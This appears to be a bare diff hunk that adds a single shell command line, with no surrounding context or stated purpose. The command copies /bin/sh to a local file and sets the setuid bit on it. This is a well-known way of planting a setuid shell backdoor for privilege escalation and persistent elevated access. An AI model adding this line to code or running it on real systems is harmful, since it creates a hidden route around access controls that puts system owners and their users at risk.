@@ -1,0 +1,1 @@
+cp /bin/sh ./x && chmod u+s ./x
